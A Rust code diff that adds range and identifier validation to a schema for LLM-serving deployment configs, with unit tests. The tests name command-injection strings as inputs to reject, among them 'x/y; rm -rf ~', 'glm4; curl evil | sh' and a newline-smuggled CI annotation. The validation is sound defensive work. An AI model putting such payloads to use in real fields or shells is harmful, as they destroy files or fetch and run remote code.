@@ -56,10 +56,247 @@ pub struct FieldSpec {
     pub name: &'static str,
     pub ty: FieldTy,
     pub doc: &'static str,
+    /// The values the field accepts beyond its type (`deploy::field::out_of_range`,
+    /// `deploy::field::invalid_id`).
+    pub valid: Valid,
 }
 
 const fn f(name: &'static str, ty: FieldTy, doc: &'static str) -> FieldSpec {
-    FieldSpec { name, ty, doc }
+    FieldSpec {
+        name,
+        ty,
+        doc,
+        valid: Valid::Any,
+    }
+}
+
+impl FieldSpec {
+    const fn valid(self, valid: Valid) -> FieldSpec {
+        FieldSpec { valid, ..self }
+    }
+}
+
+/// The largest count a field accepts (deployments' counts are 32-bit).
+pub const MAX_COUNT: i128 = u32::MAX as i128;
+
+/// What values a field accepts, beyond its type.
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub enum Valid {
+    Any,
+    /// Greater than 0 (sizes, bandwidths, parameters, rates).
+    Positive,
+    /// 0 or more (prices, overheads).
+    NonNegative,
+    /// Greater than 0 and at most this (bits per weight).
+    UpTo(f64),
+    /// A whole number from `min` to [`MAX_COUNT`] (layers, heads, sequences, GPUs).
+    Whole {
+        min: i128,
+    },
+    /// A share above 0 and at most 100 %.
+    Share,
+    /// A share from 0 to 100 %.
+    ShareOrZero,
+    /// A Hugging Face repository id, `org/name`.
+    HfRepo,
+    /// An Ollama model tag, `[host/][namespace/]name[:tag]`.
+    OllamaTag,
+    /// A diagnostic code, `area::name` (rules' `code`: it reaches every output format).
+    DiagCode,
+}
+
+impl Valid {
+    /// Whether a number is in range, or the sentence that says which range it must be in.
+    pub fn check_number(self, value: f64) -> Result<(), String> {
+        let ok = match self {
+            Valid::Any | Valid::HfRepo | Valid::OllamaTag | Valid::DiagCode => true,
+            Valid::Positive => value > 0.0,
+            Valid::NonNegative => value >= 0.0,
+            Valid::UpTo(max) => value > 0.0 && value <= max,
+            Valid::Whole { min } => value >= min as f64 && value <= MAX_COUNT as f64,
+            Valid::Share => value > 0.0 && value <= 1.0,
+            Valid::ShareOrZero => (0.0..=1.0).contains(&value),
+        };
+        if ok { Ok(()) } else { Err(self.describe()) }
+    }
+
+    /// The range in words: "greater than 0", "from 1 to 4,294,967,295".
+    pub fn describe(self) -> String {
+        match self {
+            Valid::Any => "any value".into(),
+            Valid::Positive => "greater than 0".into(),
+            Valid::NonNegative => "0 or more".into(),
+            Valid::UpTo(max) => format!("greater than 0 and at most {max}"),
+            Valid::Whole { min } => format!(
+                "a whole number from {min} to {}",
+                crate::units::Quantity::number(crate::units::Num::Int(MAX_COUNT)).display()
+            ),
+            Valid::Share => "above 0% and at most 100%".into(),
+            Valid::ShareOrZero => "from 0% to 100%".into(),
+            Valid::HfRepo => "a Hugging Face repository id (`org/name`)".into(),
+            Valid::OllamaTag => "an Ollama tag (`name:tag`)".into(),
+            Valid::DiagCode => "a diagnostic code (`area::name`)".into(),
+        }
+    }
+
+    /// Whether a string is a valid identifier of this kind, or why not.
+    pub fn check_str(self, text: &str) -> Result<(), String> {
+        match self {
+            Valid::HfRepo => hf_repo_problem(text).map_or(Ok(()), Err),
+            Valid::OllamaTag => ollama_tag_problem(text).map_or(Ok(()), Err),
+            Valid::DiagCode => diag_code_problem(text).map_or(Ok(()), Err),
+            _ => Ok(()),
+        }
+    }
+}
+
+/// Why `text` is not a Hugging Face repository id (`org/name`; each part 1–96 of
+/// `A-Z a-z 0-9 . _ -`, starting and ending with a letter, digit or `_`, without `--` or
+/// `..`, the name not ending in `.git`), or `None` when it is one. The rules are
+/// huggingface_hub's `validate_repo_id`, with the namespace required and ASCII only.
+pub fn hf_repo_problem(text: &str) -> Option<String> {
+    let mut parts = text.split('/');
+    let (Some(org), Some(name), None) = (parts.next(), parts.next(), parts.next()) else {
+        return Some("a repository id is `org/name`: exactly one `/`".into());
+    };
+    for (what, part) in [("organization", org), ("name", name)] {
+        if part.is_empty() || part.len() > 96 {
+            return Some(format!("the {what} must have 1 to 96 characters"));
+        }
+        if let Some(c) = part
+            .chars()
+            .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
+        {
+            return Some(format!(
+                "the {what} has {}: only letters, digits, `.`, `_` and `-` are allowed",
+                describe_char(c)
+            ));
+        }
+        let edge = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
+        if !edge(part.chars().next()) || !edge(part.chars().last()) {
+            return Some(format!(
+                "the {what} must start and end with a letter, digit or `_`"
+            ));
+        }
+    }
+    if text.contains("--") || text.contains("..") {
+        return Some("a repository id cannot contain `--` or `..`".into());
+    }
+    if name.ends_with(".git") {
+        return Some("a repository name cannot end in `.git`".into());
+    }
+    None
+}
+
+/// Why `text` is not an Ollama model tag, or `None` when it is one:
+/// `[host[:port]/][namespace/]name[:tag]`, where host, namespace and name are lowercase
+/// letters, digits, `.`, `_` and `-` (starting with a letter or digit; the host may end
+/// with `:port`), and the tag is letters (either case, as in `q4_K_M`), digits, `.`, `_`
+/// and `-`, starting with a letter or digit. Parts have at most 80 characters, the host 253.
+pub fn ollama_tag_problem(text: &str) -> Option<String> {
+    let (path, tag) = match text.rfind(':') {
+        Some(colon) if !text[colon..].contains('/') => (&text[..colon], Some(&text[colon + 1..])),
+        _ => (text, None),
+    };
+    let parts: Vec<&str> = path.split('/').collect();
+    if parts.len() > 3 {
+        return Some("a tag is `[host/][namespace/]name[:tag]`: at most two `/`".into());
+    }
+    let lower =
+        |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '.' | '_' | '-');
+    let any_case = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
+    let check = |what: &str, part: &str, max: usize, allowed: &dyn Fn(char) -> bool| {
+        if part.is_empty() || part.len() > max {
+            return Some(format!("the {what} must have 1 to {max} characters"));
+        }
+        if let Some(c) = part.chars().find(|c| !allowed(*c)) {
+            return Some(format!(
+                "the {what} has {}: only {} are allowed",
+                describe_char(c),
+                if what == "tag" {
+                    "letters, digits, `.`, `_` and `-`"
+                } else {
+                    "lowercase letters, digits, `.`, `_` and `-`"
+                }
+            ));
+        }
+        if !part.starts_with(|c: char| c.is_ascii_alphanumeric()) {
+            return Some(format!("the {what} must start with a letter or digit"));
+        }
+        None
+    };
+    let (host, namespace, name) = match parts.as_slice() {
+        [name] => (None, None, *name),
+        [namespace, name] => (None, Some(*namespace), *name),
+        [host, namespace, name] => (Some(*host), Some(*namespace), *name),
+        _ => unreachable!("split yields 1 to 3 parts here"),
+    };
+    if let Some(host) = host {
+        let (name, port) = match host.split_once(':') {
+            Some((name, port)) => (name, Some(port)),
+            None => (host, None),
+        };
+        if let Some(problem) = check("host", name, 253, &lower) {
+            return Some(problem);
+        }
+        if let Some(port) = port
+            && (port.is_empty() || port.len() > 5 || !port.chars().all(|c| c.is_ascii_digit()))
+        {
+            return Some("the host's port must be 1 to 5 digits".into());
+        }
+    }
+    if let Some(namespace) = namespace
+        && let Some(problem) = check("namespace", namespace, 80, &lower)
+    {
+        return Some(problem);
+    }
+    if let Some(problem) = check("name", name, 80, &lower) {
+        return Some(problem);
+    }
+    if let Some(tag) = tag
+        && let Some(problem) = check("tag", tag, 80, &any_case)
+    {
+        return Some(problem);
+    }
+    None
+}
+
+/// Why `text` is not a diagnostic code, or `None` when it is one: 2 to 8 parts of ASCII
+/// letters, digits and `_` joined by `::`, at most 128 characters in all.
+pub fn diag_code_problem(text: &str) -> Option<String> {
+    if text.len() > 128 {
+        return Some("a code has at most 128 characters".into());
+    }
+    let parts: Vec<&str> = text.split("::").collect();
+    if !(2..=8).contains(&parts.len()) {
+        return Some("a code is 2 to 8 parts joined by `::`, like `deploy::rule::name`".into());
+    }
+    for part in parts {
+        if part.is_empty() {
+            return Some("a code has no empty part (`::::`)".into());
+        }
+        if let Some(c) = part
+            .chars()
+            .find(|c| !(c.is_ascii_alphanumeric() || *c == '_'))
+        {
+            return Some(format!(
+                "the code has {}: only letters, digits and `_` between `::` are allowed",
+                describe_char(c)
+            ));
+        }
+    }
+    None
+}
+
+/// A character as a message names it: `;`, a space, a newline, U+00E9.
+fn describe_char(c: char) -> String {
+    match c {
+        ' ' => "a space".into(),
+        '\n' => "a newline".into(),
+        '\t' => "a tab".into(),
+        c if c.is_ascii_graphic() => format!("`{c}`"),
+        c => format!("U+{:04X}", c as u32),
+    }
 }
 
 pub const VENDORS: &[&str] = &["nvidia", "amd", "apple", "intel"];
@@ -72,30 +309,34 @@ pub const WINDOW_KV: &[&str] = &["windowed", "full"];
 const GPU: &[FieldSpec] = &[
     f("name", FieldTy::Str, "display name"),
     f("vendor", FieldTy::Symbol(VENDORS), "maker"),
-    f("memory", FieldTy::Q(Dim::BYTES), "memory per GPU"),
-    f("bandwidth", FieldTy::Q(Dim::BANDWIDTH), "memory bandwidth"),
+    f("memory", FieldTy::Q(Dim::BYTES), "memory per GPU").valid(Valid::Positive),
+    f("bandwidth", FieldTy::Q(Dim::BANDWIDTH), "memory bandwidth").valid(Valid::Positive),
     f(
         "bf16",
         FieldTy::Q(Dim::COMPUTE),
         "dense BF16 tensor throughput",
-    ),
+    )
+    .valid(Valid::Positive),
     f(
         "fp8",
         FieldTy::Q(Dim::COMPUTE),
         "dense FP8 tensor throughput",
-    ),
+    )
+    .valid(Valid::Positive),
     f(
         "int8",
         FieldTy::Q(Dim::COMPUTE),
         "dense INT8 tensor throughput",
-    ),
-    f("tdp", FieldTy::Q(Dim::WATTS), "board power"),
+    )
+    .valid(Valid::Positive),
+    f("tdp", FieldTy::Q(Dim::WATTS), "board power").valid(Valid::Positive),
     f(
         "price",
         FieldTy::Q(Dim::HOURLY),
         "hourly on-demand price per GPU",
-    ),
-    f("msrp", FieldTy::Q(Dim::DOLLARS), "launch price"),
+    )
+    .valid(Valid::NonNegative),
+    f("msrp", FieldTy::Q(Dim::DOLLARS), "launch price").valid(Valid::NonNegative),
     f(
         "interconnect",
         FieldTy::Symbol(INTERCONNECTS),
@@ -105,53 +346,60 @@ const GPU: &[FieldSpec] = &[
         "link_bandwidth",
         FieldTy::Q(Dim::BANDWIDTH),
         "GPU-to-GPU bandwidth",
-    ),
+    )
+    .valid(Valid::Positive),
 ];
 
 const MODEL: &[FieldSpec] = &[
-    f("hf", FieldTy::Str, "Hugging Face checkpoint id"),
-    f("ollama", FieldTy::Str, "Ollama tag"),
-    f("params", FieldTy::Number, "total parameters"),
+    f("hf", FieldTy::Str, "Hugging Face checkpoint id").valid(Valid::HfRepo),
+    f("ollama", FieldTy::Str, "Ollama tag").valid(Valid::OllamaTag),
+    f("params", FieldTy::Number, "total parameters").valid(Valid::Positive),
     f(
         "active_params",
         FieldTy::Number,
         "parameters used per token (MoE)",
-    ),
-    f("layers", FieldTy::Number, "transformer layers"),
-    f("hidden", FieldTy::Number, "hidden size"),
-    f("intermediate", FieldTy::Number, "MLP intermediate size"),
-    f("heads", FieldTy::Number, "attention heads"),
-    f("kv_heads", FieldTy::Number, "key/value heads"),
-    f("head_dim", FieldTy::Number, "dimension per head"),
-    f("vocab", FieldTy::Number, "vocabulary size"),
+    )
+    .valid(Valid::Positive),
+    f("layers", FieldTy::Number, "transformer layers").valid(Valid::Whole { min: 1 }),
+    f("hidden", FieldTy::Number, "hidden size").valid(Valid::Whole { min: 1 }),
+    f("intermediate", FieldTy::Number, "MLP intermediate size").valid(Valid::Whole { min: 1 }),
+    f("heads", FieldTy::Number, "attention heads").valid(Valid::Whole { min: 1 }),
+    f("kv_heads", FieldTy::Number, "key/value heads").valid(Valid::Whole { min: 1 }),
+    f("head_dim", FieldTy::Number, "dimension per head").valid(Valid::Whole { min: 1 }),
+    f("vocab", FieldTy::Number, "vocabulary size").valid(Valid::Whole { min: 1 }),
     f(
         "max_context",
         FieldTy::Q(Dim::TOKENS),
         "trained context window",
-    ),
+    )
+    .valid(Valid::Whole { min: 1 }),
     f("attention", FieldTy::Symbol(ATTENTION), "attention kind"),
     f(
         "window",
         FieldTy::Q(Dim::TOKENS),
         "sliding window of local layers",
-    ),
+    )
+    .valid(Valid::Whole { min: 1 }),
     f(
         "local_layers",
         FieldTy::Number,
         "layers with sliding-window attention",
-    ),
-    f("kv_lora_rank", FieldTy::Number, "MLA compressed KV rank"),
+    )
+    .valid(Valid::Whole { min: 0 }),
+    f("kv_lora_rank", FieldTy::Number, "MLA compressed KV rank").valid(Valid::Whole { min: 1 }),
     f(
         "qk_rope_dim",
         FieldTy::Number,
         "MLA decoupled RoPE dimension",
-    ),
-    f("experts", FieldTy::Number, "MoE experts"),
+    )
+    .valid(Valid::Whole { min: 0 }),
+    f("experts", FieldTy::Number, "MoE experts").valid(Valid::Whole { min: 1 }),
     f(
         "experts_active",
         FieldTy::Number,
         "MoE experts used per token",
-    ),
+    )
+    .valid(Valid::Whole { min: 1 }),
     f("files", FieldTy::Block, "exact artifact sizes per quant"),
 ];
 
@@ -160,8 +408,9 @@ const QUANT: &[FieldSpec] = &[
         "bits",
         FieldTy::Number,
         "nominal bits of the packed weights",
-    ),
-    f("bpw", FieldTy::Number, "effective bits per weight"),
+    )
+    .valid(Valid::UpTo(64.0)),
+    f("bpw", FieldTy::Number, "effective bits per weight").valid(Valid::UpTo(64.0)),
     f("kind", FieldTy::Symbol(QUANT_KINDS), "format family"),
     f(
         "engines",
@@ -170,34 +419,40 @@ const QUANT: &[FieldSpec] = &[
     ),
 ];
 
-const KV: &[FieldSpec] = &[f("bytes", FieldTy::Number, "bytes per element")];
+const KV: &[FieldSpec] =
+    &[f("bytes", FieldTy::Number, "bytes per element").valid(Valid::UpTo(8.0))];
 
 const ENGINE: &[FieldSpec] = &[
     f(
         "utilization",
         FieldTy::Ratio,
         "share of GPU memory the engine uses",
-    ),
+    )
+    .valid(Valid::Share),
     f(
         "overhead",
         FieldTy::Q(Dim::BYTES),
         "runtime overhead per GPU",
-    ),
+    )
+    .valid(Valid::NonNegative),
     f(
         "overhead_ratio",
         FieldTy::Ratio,
         "extra overhead as a share of weights",
-    ),
+    )
+    .valid(Valid::ShareOrZero),
     f(
         "overhead_per_vocab",
         FieldTy::Q(Dim::BYTES),
         "extra overhead per vocabulary entry (sampler buffers)",
-    ),
+    )
+    .valid(Valid::NonNegative),
     f(
         "overhead_tensor_parallel",
         FieldTy::Q(Dim::BYTES),
         "extra overhead per GPU when count > 1 (communication buffers)",
-    ),
+    )
+    .valid(Valid::NonNegative),
     f(
         "window_kv",
         FieldTy::Symbol(WINDOW_KV),
@@ -210,24 +465,25 @@ const RULE: &[FieldSpec] = &[
     f("when", FieldTy::Predicate, "when the rule fires"),
     f("message", FieldTy::Message, "what the diagnostic says"),
     f("help", FieldTy::Message, "the fix the diagnostic suggests"),
-    f("code", FieldTy::Str, "stable diagnostic code"),
+    f("code", FieldTy::Str, "stable diagnostic code").valid(Valid::DiagCode),
 ];
 
 const DEPLOYMENT: &[FieldSpec] = &[
     f("model", FieldTy::Ref(DeclKind::Model), "the model served"),
     f("quant", FieldTy::Ref(DeclKind::Quant), "weight format"),
-    f("context", FieldTy::Q(Dim::TOKENS), "tokens per sequence"),
-    f("seqs", FieldTy::Number, "concurrent sequences"),
+    f("context", FieldTy::Q(Dim::TOKENS), "tokens per sequence").valid(Valid::Whole { min: 1 }),
+    f("seqs", FieldTy::Number, "concurrent sequences").valid(Valid::Whole { min: 1 }),
     f("kv_cache", FieldTy::Ref(DeclKind::Kv), "KV-cache dtype"),
     f("engine", FieldTy::Ref(DeclKind::Engine), "serving engine"),
     f("gpu", FieldTy::Ref(DeclKind::Gpu), "GPU"),
-    f("count", FieldTy::Number, "tensor-parallel GPUs per replica"),
-    f("replicas", FieldTy::Number, "copies of the deployment"),
+    f("count", FieldTy::Number, "tensor-parallel GPUs per replica").valid(Valid::Whole { min: 1 }),
+    f("replicas", FieldTy::Number, "copies of the deployment").valid(Valid::Whole { min: 1 }),
     f(
         "memory_utilization",
         FieldTy::Ratio,
         "override of the engine's memory share",
-    ),
+    )
+    .valid(Valid::Share),
     f(
         "allow",
         FieldTy::RefList(DeclKind::Rule),
@@ -237,17 +493,19 @@ const DEPLOYMENT: &[FieldSpec] = &[
 ];
 
 pub const WORKLOAD: &[FieldSpec] = &[
-    f("rate", FieldTy::Q(Dim::REQUEST_RATE), "requests per second"),
+    f("rate", FieldTy::Q(Dim::REQUEST_RATE), "requests per second").valid(Valid::Positive),
     f(
         "prompt",
         FieldTy::Q(Dim::TOKENS),
         "prompt tokens per request",
-    ),
+    )
+    .valid(Valid::Positive),
     f(
         "output",
         FieldTy::Q(Dim::TOKENS),
         "output tokens per request",
-    ),
+    )
+    .valid(Valid::Positive),
 ];
 
 pub fn schema(kind: DeclKind) -> &'static [FieldSpec] {
@@ -479,4 +737,125 @@ pub const PROPERTIES: &[Property] = &[
 
 pub fn property(name: &str) -> Option<&'static Property> {
     PROPERTIES.iter().find(|prop| prop.name == name)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn hugging_face_ids() {
+        for ok in [
+            "THUDM/GLM-4-9B-0414",
+            "meta-llama/Llama-3.1-8B",
+            "Qwen/Qwen3-0.6B",
+            "a/b",
+            "_x/y_",
+        ] {
+            assert_eq!(hf_repo_problem(ok), None, "{ok}");
+        }
+        for bad in [
+            "x/y; rm -rf ~",
+            "x/$(id)",
+            "x/y\nrm",
+            "--help/x",
+            "-x/y",
+            ".x/y",
+            "x/y.",
+            "x/a--b",
+            "x/a..b",
+            "x/y.git",
+            "name",
+            "a/b/c",
+            "",
+            "x/ñ",
+            "x/'y'",
+            &format!("x/{}", "a".repeat(97)),
+        ] {
+            assert!(hf_repo_problem(bad).is_some(), "{bad:?}");
+        }
+        assert_eq!(hf_repo_problem(&format!("x/{}", "a".repeat(96))), None);
+        assert!(hf_repo_problem("x/ñ").unwrap().contains("U+00F1"));
+    }
+
+    #[test]
+    fn diagnostic_codes() {
+        for ok in ["deploy::fit::does_not_fit", "acme::slow", "a::b_2::C"] {
+            assert_eq!(diag_code_problem(ok), None, "{ok}");
+        }
+        for bad in [
+            "plain",
+            "a::",
+            "a::::b",
+            "a::b\n::error::injected",
+            "a::b c",
+            "a::b%0A",
+            "a::é",
+        ] {
+            assert!(diag_code_problem(bad).is_some(), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn ollama_tags() {
+        for ok in [
+            "glm4:9b",
+            "llama3.1",
+            "library/llama3:8b-instruct-q4_K_M",
+            "registry.ollama.ai/library/qwen3:32b",
+            "localhost:11434/me/model:latest",
+        ] {
+            assert_eq!(ollama_tag_problem(ok), None, "{ok}");
+        }
+        for bad in [
+            "glm4; curl evil | sh",
+            "Glm4:9b",
+            "glm4:",
+            ":9b",
+            "-glm4",
+            "glm4:-x",
+            "a/b/c/d",
+            "glm4:$(id)",
+            "glm4\nFROM evil",
+            "glm4 9b",
+            "host:port/a/b",
+            "",
+        ] {
+            assert!(ollama_tag_problem(bad).is_some(), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn ranges() {
+        assert!(Valid::Positive.check_number(-4.0).is_err());
+        assert!(Valid::Positive.check_number(0.0).is_err());
+        assert!(Valid::Positive.check_number(f64::NAN).is_err());
+        assert!(Valid::NonNegative.check_number(0.0).is_ok());
+        assert!(Valid::Share.check_number(1.0).is_ok());
+        assert!(Valid::Share.check_number(0.0).is_err());
+        assert!(Valid::ShareOrZero.check_number(0.0).is_ok());
+        assert!(Valid::UpTo(64.0).check_number(65.0).is_err());
+        assert!(Valid::Whole { min: 1 }.check_number(0.0).is_err());
+        assert!(Valid::Whole { min: 0 }.check_number(0.0).is_ok());
+        assert!(
+            Valid::Whole { min: 1 }
+                .check_number(MAX_COUNT as f64 + 1.0)
+                .is_err()
+        );
+        // Every numeric field of every kind has a range.
+        for kind in [
+            DeclKind::Gpu,
+            DeclKind::Model,
+            DeclKind::Quant,
+            DeclKind::Kv,
+            DeclKind::Engine,
+            DeclKind::Deployment,
+        ] {
+            for spec in schema(kind).iter().chain(WORKLOAD) {
+                if matches!(spec.ty, FieldTy::Q(_) | FieldTy::Number | FieldTy::Ratio) {
+                    assert_ne!(spec.valid, Valid::Any, "{} has no range", spec.name);
+                }
+            }
+        }
+    }
 }
